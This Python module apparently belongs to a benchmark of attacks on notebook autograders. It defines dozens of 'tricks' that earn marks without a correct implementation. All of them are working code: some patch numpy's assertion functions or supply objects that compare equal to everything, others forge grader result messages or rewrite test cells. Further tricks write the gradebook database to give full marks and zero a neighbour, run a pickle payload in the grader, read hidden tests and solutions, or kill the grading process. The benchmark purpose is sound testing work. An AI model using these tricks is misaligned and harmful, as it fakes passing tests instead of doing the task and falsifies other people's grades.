"""The tricks themselves: submissions without a correct implementation, each with one way to earn points nevertheless.

A submission is the released notebook with the three classes written (they return zeros, or what the trick needs) and
a cell of ``setup`` after the imports.  What a trick does on loading is in a class that the three need.
The same text goes to every grader; where they differ inside, one text has the code for each, and skips
what is not there.  ``STUDENT`` in a text becomes the name of the folder it is handed in as.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from textwrap import dedent, indent
from typing import Any

from benchmarks.tricks_assignment import PARTS, RIGHT, layer

Cells = list[dict[str, Any]]

ZEROS = "return np.zeros((len(x), self.b.size) if hasattr(self, 'W') else x.shape)"
ZERO_DX = "return np.zeros((len(dy), len(self.W.data)) if hasattr(self, 'W') else dy.shape)"
VICTIM = "a-honest"
"""A neighbour whose marks some tricks would change."""


@dataclass(frozen=True)
class Trick:
    """One submission.

    number: in the list of attacks on autograders; empty for a control.  forward, backward: bodies of all three classes,
    or one per class.  files: beside the notebook.  edit: changes the notebook's cells.  beside: the control that
    it is measured against.  cannot: graders in which it cannot be expressed, with the reason.  alone: graded in
    a class of its own with honest neighbours, for it ends the run.  harms: it would change the victim's mark.
    """

    number: str
    title: str
    setup: str = ""
    forward: str | dict[str, str] = ZEROS
    backward: str | dict[str, str] = ZERO_DX
    files: dict[str, str] = field(default_factory=dict)
    edit: Callable[[Cells], Cells] | None = None
    beside: str = "stub"
    cannot: dict[str, str] = field(default_factory=dict)
    alone: bool = False
    harms: bool = False

    def classes(self) -> dict[str, str]:
        """Source of every class."""
        bodies = [
            body if isinstance(body, dict) else dict.fromkeys(PARTS, body) for body in (self.forward, self.backward)
        ]
        written = {name: layer(name, bodies[0][name], bodies[1][name]) for name in PARTS}
        if "class Begin:" not in self.setup:
            return written
        return {name: text.replace(":\n", ":\n    begin = Begin\n", 1) for name, text in written.items()}

    def sources(self) -> list[str]:
        """Every Python text of the submission."""
        return [self.setup, *self.classes().values(), *self.files.values()]


def on_load(text: str) -> str:
    """Put statements into a function that a class body calls, which the layers need: a loose call is not always run."""
    return "def trick():\n" + indent(dedent(text).strip(), "    ") + "\n\nclass Begin:\n    trick()\n"


def is_test(cell: dict[str, Any]) -> bool:
    """Whether a cell of any of the three notebooks holds tests, or calls them."""
    source = "".join(cell["source"])
    return cell["metadata"].get("nbgrader", {}).get("grade", False) or source.startswith(("grader.check(", "check("))


# --- changed cells ---------------------------------------------------------------------------


def skip_tests(cells: Cells) -> Cells:
    """Tag every test cell so that nbclient passes it over."""
    for cell in filter(is_test, cells):
        cell["metadata"]["tags"] = ["skip-execution"]
    return cells


def drop_tests(cells: Cells) -> Cells:
    """Leave out every test cell."""
    return [cell for cell in cells if not is_test(cell)]


def double_tests(cells: Cells) -> Cells:
    """Give an empty cell, which comes first, the metadata of every test cell."""
    doubles = []
    for number, cell in enumerate(filter(is_test, cells)):
        double = copy.deepcopy(cell)
        doubles.append({**double, "source": "pass", "id": f"double{number}"})
    return [cells[0], *doubles, *cells[1:]]


def retype_tests(cells: Cells) -> Cells:
    """Declare every test cell an answer, not a test, and empty it."""
    for cell in filter(is_test, cells):
        cell["source"] = "pass"
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(grade=False, solution=True, locked=False)
    return cells


# --- code that several tricks share -----------------------------------------------------------

PATCHES = """\
def patch():
    import builtins, unittest
    nothing = lambda *args, **kwargs: None
    for name in dir(np.testing):
        if name.startswith("assert_"):
            setattr(np.testing, name, nothing)
    np.allclose = np.isclose = np.array_equal = np.all = lambda *args, **kwargs: True
    np.max = np.linalg.norm = lambda *args, **kwargs: 0.0
    builtins.all = lambda *args: True
    for name in ("assertEqual", "assertTrue", "assertAlmostEqual"):
        setattr(unittest.TestCase, name, nothing)
"""
LIAR = '''\
class Liar(np.ndarray):
    """An array whose every comparison holds and whose every difference is zero."""
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(item) for item in inputs]
        shape = np.broadcast_shapes(*(item.shape for item in plain))
        if ufunc.__name__ in ("equal", "less", "less_equal", "greater", "greater_equal", "logical_and", "isfinite"):
            return np.ones(shape, bool)
        if ufunc.__name__ in ("isnan", "isinf", "not_equal", "logical_or"):
            return np.zeros(shape, bool)
        return np.zeros(shape)
    def __array_function__(self, function, types, args, kwargs):
        return np.ones(self.shape, bool) if function.__name__ in ("isclose", "allclose", "array_equal") else 0.0
'''
YES = '''\
class Yes:
    """Equal to everything, smaller than everything, true, and zero when subtracted."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __add__(self, other): return 1.0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __hash__(self): return 0
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs): return self
    def __iadd__(self, other): return self
    def __setitem__(self, key, value): pass
'''
YES_DX = "if hasattr(self, 'W'):\n    self.W.grad = self.b.grad = {yes}\nreturn {yes}"
LIAR_Y = "return np.zeros((len(x), self.b.size) if hasattr(self, 'W') else x.shape).view(Liar)"
LIAR_DX = (
    "if hasattr(self, 'W'):\n    self.W.grad = self.W.grad.view(Liar)\n    self.b.grad = self.b.grad.view(Liar)\n"
    "    return np.zeros((len(dy), len(self.W.data))).view(Liar)\nreturn np.zeros(dy.shape).view(Liar)"
)
REWRITE = """\
def rewritten(text):
    if "GradingResults(Checker" in text:
        more = "for f in results.results.values(): f.update_score(f.possible)"
        return text.replace("import pickle", more + "\\nimport pickle")
    return "pass\\n" if "expected" in text else text
"""
FULL_MARKS = """\
import json, os, pathlib, re, resource, sqlite3, sys, time

def ancestors():
    pid, lines = os.getppid(), []
    while pid > 1:
        try:
            lines.append(pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\\0"))
            pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            break
    return lines

def option(lines, name):
    found = [line[line.index(name) + 1] for line in lines if name in line]
    return found[-1] if found else None

def gradebook(column="manual_score", victim=""):
    # nbgrader: three folders up from autograded/STUDENT/02_layers
    path = os.path.abspath("../../../gradebook.db")
    if not os.path.exists(path):
        return 0
    with sqlite3.connect(path, timeout=20) as base:
        rows = base.execute(
            "select grade.id, grade_cells.max_score, grade.auto_score from grade "
            "join grade_cells on grade.cell_id = grade_cells.id "
            "join submitted_notebook on grade.notebook_id = submitted_notebook.id join submitted_assignment on "
            "submitted_notebook.assignment_id = submitted_assignment.id where student_id = ?",
            (victim or "STUDENT",)).fetchall()
        for identifier, most, auto in rows:
            base.execute(f"update grade set {column} = ? where id = ?", (0 if victim else most, identifier))
    return len(rows)

def report(out, student, share):
    # this project: the report that lies in the folder of the run
    try:
        resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
    path = pathlib.Path(out) / "reports" / student / "02_layers.json"
    found = json.loads(path.read_text())
    if resource.getrlimit(resource.RLIMIT_FSIZE)[0] == 0:  # nothing can be written: put another's report in its place
        other = path.parents[1] / ("z-honest" if share else "stub") / path.name
        os.symlink(other.resolve(strict=True), path.with_name("link"))
        os.replace(path.with_name("link"), path)
        return
    for exercise in found["exercises"]:
        for verdict in exercise["verdicts"]:
            verdict.update(points=share * verdict["max_points"], status="passed" if share else "failed")
    path.write_text(json.dumps(found))

def results(folder):
    # otter-grader: the file that it left for the instructor
    path = pathlib.Path(folder) / "results.json"
    found = json.loads(path.read_text())
    for test in found["tests"]:
        if "max_score" in test:
            test["score"] = test["max_score"]
    path.write_text(json.dumps(found))
"""
LATER = (
    FULL_MARKS  # noqa: S608 - the trick's own, on a gradebook that this benchmark has made
    + """
def wait(lines, seconds=12):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.2)
        try:
            if option(lines, "--out"):
                report(option(lines, "--out"), "STUDENT", 1.0)
                return
            if option(lines, "-o"):
                results(option(lines, "-o"))
                return
            with sqlite3.connect("file:" + os.path.abspath("../../../gradebook.db") + "?mode=ro", uri=True) as base:
                done = base.execute(
                    "select count(*) from grade join submitted_notebook on grade.notebook_id = submitted_notebook.id "
                    "join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id "
                    "where student_id = ? and auto_score is not null", ("STUDENT",)).fetchone()[0]
            if done == 6:
                gradebook("auto_score")
                return
        except (OSError, ValueError, sqlite3.Error):
            continue
"""
)
STOLEN = """\
import ast, doctest, functools, json, os, pathlib

def solutions():
    import dlkit
    for path in ("../../../source/02_layers/layers.ipynb", "../source/02_layers/layers.ipynb"):
        if os.path.exists(path):
            cells = ["".join(cell["source"]) for cell in json.load(open(path))["cells"]]
            return "\\n".join(cell for cell in cells if "class " in cell)
    return (pathlib.Path(dlkit.__file__).parents[1] / "solutions" / "02_layers" / "layers.py").read_text()

@functools.cache
def stolen_class(name):
    names = {"np": np, "array_module": array_module, "Parameter": Parameter, "zeros": zeros, "Layer": object}
    for node in ast.parse(solutions()).body:
        if isinstance(node, ast.ClassDef) and node.name == name:
            exec(compile(ast.Module([node], []), "stolen", "exec"), names)
    return names[name]

def hidden(layer, part, x, dy=None):
    name = type(layer).__name__
    if not os.path.isdir("tests"):
        return None
    found = {}
    exec(open(f"tests/{name}_{part}.py").read(), found)
    names = {"np": np, "layer": layer, "x": x, "dy": dy}
    for example in doctest.DocTestParser().get_examples(found["test"]["suites"][0]["cases"][-1]["code"]):
        if example.source.startswith(("def ", "e = ", "expected")):
            exec(example.source, names)
    return names
"""
FRAMES = """\
import sys

def seen(name):
    frame = sys._getframe(1)
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            if name in names:
                return names[name]
        frame = frame.f_back
    return None
"""
FORGE = """\
import os, sys

def forge(value):
    try:
        kernel = get_ipython().kernel
        content = {"data": {"text/plain": str(value)}, "metadata": {}, "execution_count": 1}
        parent = kernel.get_parent("shell")
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent, ident=b"execute_result")
    except NameError:
        frame = sys._getframe()
        while frame:
            header = frame.f_locals.get("header")
            if isinstance(header, dict) and "id" in header:
                from autograder.isolation import protocol
                arrays = []
                claim = protocol.encode({"status": "passed", "points": 1000.0, "sentence": value}, arrays)
                frame.f_locals["channel"].send({"id": header["id"], "value": claim}, arrays)
                break
            frame = frame.f_back
"""
SHADOW = """\
import os, sys
here = os.path.dirname(os.path.abspath(__file__))
mine, path = sys.modules.pop(__name__, None), sys.path[:]
sys.path = [folder for folder in path if os.path.abspath(folder or ".") != here]
import numpy, numpy.testing
sys.path = path
for name in ("assert_allclose", "assert_array_equal", "assert_equal"):
    setattr(numpy.testing, name, lambda *args, **kwargs: None)
numpy.max = lambda *args, **kwargs: 0.0
numpy.all = numpy.allclose = lambda *args, **kwargs: True
"""
FINITE_DIFFERENCES = """\
h, x = 1e-5, self.x
def slope(array, index):
    kept = array[index]
    array[index] = kept + h
    above = self.forward(x)
    array[index] = kept - h
    below = self.forward(x)
    array[index] = kept
    return ((above - below) * dy).sum() / (2 * h)
x = np.array(x, dtype=float)
if hasattr(self, "W"):
    for parameter in (self.W, self.b):
        for index in np.ndindex(parameter.data.shape):
            parameter.grad[index] += slope(parameter.data, index)
dx = np.zeros_like(x)
for index in np.ndindex(x.shape):
    dx[index] = slope(x, index)
return dx.astype(dy.dtype)
"""
COPY_OF_FORWARD = """\
def value(layer, x):
    if hasattr(layer, "W"):
        return x @ layer.W.data + layer.b.data
    if hasattr(layer, "axis"):
        e = np.exp(x - x.max(axis=layer.axis, keepdims=True))
        return e / e.sum(axis=layer.axis, keepdims=True)
    return array_module(x).maximum(x, 0)
"""
DIFFERENCES_OF_A_COPY = """\
h, x = 1e-5, self.x.astype(float)
def rise(array, index, *over):
    kept = array[index].copy()
    array[index] = kept + h
    above = value(self, x)
    array[index] = kept - h
    below = value(self, x)
    array[index] = kept
    return ((above - below) * dy).sum(*over) / (2 * h)
if hasattr(self, "W"):
    for parameter in (self.W, self.b):
        for index in np.ndindex(parameter.data.shape):
            parameter.grad[index] += rise(parameter.data, index)
elif not hasattr(self, "axis"):
    return ((value(self, x + h) - value(self, x - h)) / (2 * h) * dy).astype(dy.dtype)
dx = np.zeros_like(x)
axis = getattr(self, "axis", -1) % x.ndim
for i in range(x.shape[axis]):
    column = (slice(None),) * axis + (i,)
    dx[column] = rise(x, column, axis)
return dx.astype(dy.dtype)
"""
IN_THE_GRADER = """\
import otter.test_files.abstract_test as a
a.TestFile.score = property(lambda self: self.possible)
"""


def _right(number: int) -> dict[str, str]:
    return {name: bodies[number] for name, bodies in RIGHT.items()}


KNOWN_DW = """\
if hasattr(self, "W") and dy.shape == (1, 2):
    self.W.grad += [[1.0, 10.0], [2.0, 20.0]]
    self.b.grad += [1.0, 10.0]
"""

CONTROLS = {
    "stub": Trick("", "nothing written"),
    "wrong": Trick("", "returns zeros, no trick"),
    "forward": Trick("", "correct forward, no backward", forward=_right(0), backward="raise NotImplementedError"),
}
"""Not tricks: what the others are measured against, and what their classes earn without the trick."""

TRICKS = [
    Trick("1", "test cells tagged skip-execution", edit=skip_tests),
    Trick("2", "objects that are equal to everything", YES, "return Yes()", YES_DX.format(yes="Yes()")),
    Trick("3", "subclass of ndarray whose comparisons lie", LIAR, LIAR_Y, LIAR_DX),
    Trick(
        "4, 29",
        "forged result message on the kernel's socket, forged frame on the worker's pipe",
        FORGE,
        "forge('full marks')\n" + ZEROS,
        "forge('full marks')\n" + ZERO_DX,
    ),
    Trick(
        "5",
        "IPython input transformer rewrites the test cells",
        REWRITE
        + on_load(
            "change = lambda lines: rewritten(''.join(lines)).splitlines(True)\n"
            "get_ipython().input_transformers_post.append(change)"
        ),
    ),
    Trick(
        "6",
        "IPython syntax-tree transformer rewrites the test cells",
        REWRITE
        + on_load(
            """
            import ast
            class Change(ast.NodeTransformer):
                def visit_Module(self, node):
                    return ast.parse(rewritten(ast.unparse(node)))
            get_ipython().ast_transformers.append(Change())
            """
        ),
    ),
    Trick(
        "7",
        "replaces run_cell_async",
        REWRITE
        + on_load(
            """
            shell = get_ipython()
            real = shell.run_cell_async
            async def run(raw_cell, *args, transformed_cell=None, **kwargs):
                text = rewritten(raw_cell)
                return await real(text, *args, transformed_cell=text, **kwargs)
            shell.run_cell_async = run
            """
        ),
    ),
    Trick(
        "8",
        "replaces showtraceback",
        on_load("shell = get_ipython()\nshell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None"),
    ),
    Trick("9", "patches numpy.testing, numpy and builtins", PATCHES + on_load("patch()")),
    Trick(
        "10",
        "patches what runs the tests",
        on_load(
            """
            import sys
            if "otter" in sys.modules:
                from otter.test_files import ok_test, abstract_test
                def run(self, environment):
                    self.test_case_results = [abstract_test.TestCaseResult(case, "", True) for case in self.test_cases]
                ok_test.OKTestFile.run = run
            elif "IPython" in sys.modules:
                kernel = get_ipython().kernel
                real = kernel.do_execute
                async def do_execute(code, *args, **kwargs):
                    return await real("pass" if "expected" in code else code, *args, **kwargs)
                kernel.do_execute = do_execute
            else:
                import autograder
                from autograder.isolation import executor
                passed = {"status": "passed", "passed": True, "points": 1000.0}
                executor.Executor.call = lambda self, *args, **kwargs: passed
                executor.plain = lambda value, depth=0: passed
                autograder.check = lambda *args, **kwargs: None
            """
        ),
    ),
    Trick(
        "11",
        "finds the results among all objects and rewrites them",
        """\
import gc

def rewrite():
    for thing in gc.get_objects():
        if hasattr(type(thing), "update_score"):
            thing.update_score(1000)
        elif type(thing).__name__ in ("Verdict", "TestCaseResult"):
            for name, value in (("points", 1000.0), ("passed", True), ("status", "passed")):
                try:
                    object.__setattr__(thing, name, value)
                except AttributeError:
                    pass
""",
        "rewrite()\n" + ZEROS,
        "rewrite()\n" + ZERO_DX,
    ),
    Trick(
        "12",
        "reads the expected values from the caller's frames",
        FRAMES,
        "answer = seen('expected')\nif answer is not None:\n    return answer\n" + ZEROS,
        "if hasattr(self, 'W') and seen('expected_dW') is not None:\n    self.W.grad += seen('expected_dW')\n"
        "    self.b.grad += seen('expected_db')\nanswer = seen('expected_dx')\n"
        "if answer is not None:\n    return answer\n" + ZERO_DX,
    ),
    Trick("13", "raises SkipTest", "import unittest", "raise unittest.SkipTest", "raise unittest.SkipTest"),
    Trick(
        "14",
        "prints results that look like the grader's",
        """\
import sys

def boast():
    text = '\\x1b[32mAll test cases passed!\\x1b[0m {"score": 1000, "tests": [{"score": 1000, "status": "passed"}]}'
    for stream in (sys.stdout, sys.__stdout__):
        print(text, 1000.0, sep="\\n", file=stream)
""",
        "boast()\n" + ZEROS,
        "boast()\n" + ZERO_DX,
    ),
    Trick(
        "15",
        "answers of the visible cases in a table",
        "KNOWN_Y, KNOWN_DX = {}, {}\n",
        "for given, answer in KNOWN_Y.get(type(self).__name__, []):\n"
        "    if np.shape(given) == x.shape and np.allclose(given, x):\n        return np.array(answer)\n" + ZEROS,
        KNOWN_DW + "for given, answer in KNOWN_DX.get(type(self).__name__, []):\n"
        "    if np.shape(given) == dy.shape and np.allclose(given, dy):\n        return np.array(answer)\n" + ZERO_DX,
    ),
    Trick("16a", "test cells deleted", edit=drop_tests),
    Trick("16b", "test cells doubled, an empty one first", edit=double_tests, alone=True),
    Trick("16c", "test cells declared answers, and emptied", edit=retype_tests),
    Trick(
        "17",
        "another definition where a grader is seen; class swapped after the first call",
        "import os, sys\n\n" + LIAR + "\n"
        "if 'NBGRADER_EXECUTION' in os.environ or 'otter' in sys.modules or 'autograder.isolation' in sys.modules:\n"
        "    class Answer(Liar):\n        pass\nelse:\n    class Answer(np.ndarray):\n        pass\n\n"
        "class Swapped(Layer):\n"
        "    def forward(self, x):\n        return np.zeros(self.out(x)).view(Answer)\n"
        "    def backward(self, dy):\n        return np.zeros(self.into(dy)).view(Answer)\n"
        "    def out(self, x):\n        return (len(x), self.b.size) if hasattr(self, 'W') else x.shape\n"
        "    def into(self, dy):\n"
        "        if hasattr(self, 'W'):\n            self.W.grad = self.W.grad.view(Answer)\n"
        "            self.b.grad = self.b.grad.view(Answer)\n            return (len(dy), len(self.W.data))\n"
        "        return dy.shape\n",
        "self.__class__ = Swapped\nreturn self.forward(x)",
        "self.__class__ = Swapped\nreturn self.backward(dy)",
    ),
    Trick(
        "18",
        "a pickle that runs in the grader",
        "class Bomb:\n    def __reduce__(self):\n        return exec, ("
        + repr(IN_THE_GRADER)
        + ",)\n\n"
        + on_load(
            """
            import sys
            if "otter" in sys.modules:
                from otter.test_files import GradingResults
                real = GradingResults.__init__
                def begin(self, *args, **kwargs):
                    real(self, *args, **kwargs)
                    self.bomb = Bomb()
                GradingResults.__init__ = begin
            """
        ),
        "return Bomb()",
        "return Bomb()",
    ),
    Trick(
        "19",
        "writes the gradebook: full marks for itself, none for another",
        FULL_MARKS
        + on_load(
            f"""
            gradebook()
            gradebook(victim="{VICTIM}")
            lines = ancestors()
            if option(lines, "--out"):
                report(option(lines, "--out"), "{VICTIM}", 0.0)
            if os.path.isdir("../results"):
                pathlib.Path("../results/results.json").write_text('{{"score": 1000, "tests": []}}')
            """
        ),
        harms=True,
    ),
    Trick("20a", "os._exit(0) on loading", on_load("import os\nos._exit(0)")),
    Trick("20b", "SystemExit in forward and backward", "", "raise SystemExit(0)", "raise SystemExit(0)"),
    Trick("20c", "KeyboardInterrupt in forward and backward", "", "raise KeyboardInterrupt", "raise KeyboardInterrupt"),
    Trick("20d", "segmentation fault", "import ctypes", "ctypes.string_at(0)", "ctypes.string_at(0)"),
    Trick(
        "21",
        "rewrites the results at exit (atexit)",
        FULL_MARKS
        + on_load(
            """
            import atexit
            def leave():
                lines = ancestors()
                if option(lines, "--out"):
                    report(option(lines, "--out"), "STUDENT", 1.0)
                gradebook()
                if "otter" in sys.modules:
                    import pickle
                    path = re.search(r'open\\("(.*)", "wb"', get_ipython().user_ns["In"][-1])[1]
                    results = pickle.loads(pathlib.Path(path).read_bytes())
                    for test in results.results.values():
                        test.update_score(test.possible)
                    pathlib.Path(path).write_bytes(pickle.dumps(results))
            atexit.register(leave)
            """
        ),
    ),
    Trick(
        "22",
        "a process of its own rewrites the marks after the verdict",
        LATER
        + on_load(
            """
            import subprocess
            code = LATER_CODE + f"\\nwait({ancestors()!r})\\n"
            null = {name: subprocess.DEVNULL for name in ("stdin", "stdout", "stderr")}
            subprocess.Popen([sys.executable, "-c", code], start_new_session=True, **null)
            """
        ).replace("LATER_CODE", repr(LATER)),
    ),
    Trick(
        "23",
        "numpy.py and sitecustomize.py beside the submission",
        files={"numpy.py": SHADOW, "sitecustomize.py": SHADOW},
    ),
    Trick(
        "24",
        "reads solutions or hidden tests from disk",
        STOLEN,
        "found = hidden(self, 'forward', x)\nif found:\n    self.given = x\n    return found['expected']\n"
        "return stolen_class(type(self).__name__).forward(self, x)",
        "found = hidden(self, 'backward', getattr(self, 'given', None), dy)\nif found:\n"
        "    if hasattr(self, 'W'):\n        self.W.grad += found['expected_dW']\n"
        "        self.b.grad += found['expected_db']\n"
        "    return found['expected_dx']\nreturn stolen_class(type(self).__name__).backward(self, dy)",
    ),
    Trick(
        "25",
        "kills the process that started it",
        on_load("import os, signal\nif os.getppid() > 1:\n    os.kill(os.getppid(), signal.SIGKILL)"),
        alone=True,
    ),
    Trick(
        "37a",
        "backward by finite differences of its own forward",
        forward={name: (body if "self.x" in body else "self.x = x\n" + body) for name, body in _right(0).items()},
        backward=FINITE_DIFFERENCES,
        beside="forward",
    ),
    Trick(
        "37b",
        "backward by finite differences of a copy of its forward, as few as will do",
        COPY_OF_FORWARD,
        "self.x = x\nreturn value(self, x)",
        DIFFERENCES_OF_A_COPY,
        beside="forward",
    ),
    Trick(
        "40a",
        "softmax by scipy, imported at the top",
        "from scipy.special import softmax",
        {"Linear": ZEROS, "ReLU": ZEROS, "Softmax": "return softmax(x, axis=self.axis)"},
    ),
    Trick(
        "40b",
        "softmax by scipy, imported inside the call, past any import hook",
        """\
import importlib, importlib.machinery, os, sys

def fetched(name):
    folder = os.path.dirname(os.path.dirname(np.__file__))
    if folder not in sys.path:
        sys.path.append(folder)
        sys.meta_path.insert(0, importlib.machinery.PathFinder)
    return importlib.import_module(name)
""",
        dict.fromkeys(("Linear", "ReLU"), ZEROS)
        | {"Softmax": "return fetched('scipy.special').softmax(x, axis=self.axis)"},
    ),
    Trick(
        "42",
        "patches made while one exercise is checked, for the next",
        PATCHES,
        {"Linear": "patch()\n" + ZEROS, "ReLU": ZEROS, "Softmax": ZEROS},
    ),
]
